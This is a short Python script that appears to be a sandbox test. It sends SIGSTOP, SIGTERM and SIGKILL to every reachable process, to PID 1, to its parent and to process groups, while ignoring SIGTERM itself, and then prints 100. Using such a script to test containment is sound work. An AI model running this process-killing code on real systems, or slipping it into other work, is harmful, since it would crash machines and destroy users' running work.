"""Kills whoever can be killed, over and over, and lives on itself."""

import os
import signal

for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
    for target in (-1, 1, 2, os.getppid(), -os.getppid(), 0 if number == signal.SIGTERM else 1):
        if number == signal.SIGTERM:
            signal.signal(number, signal.SIG_IGN)
        try:
            os.kill(target, number)
        except OSError:
            pass
print(100)
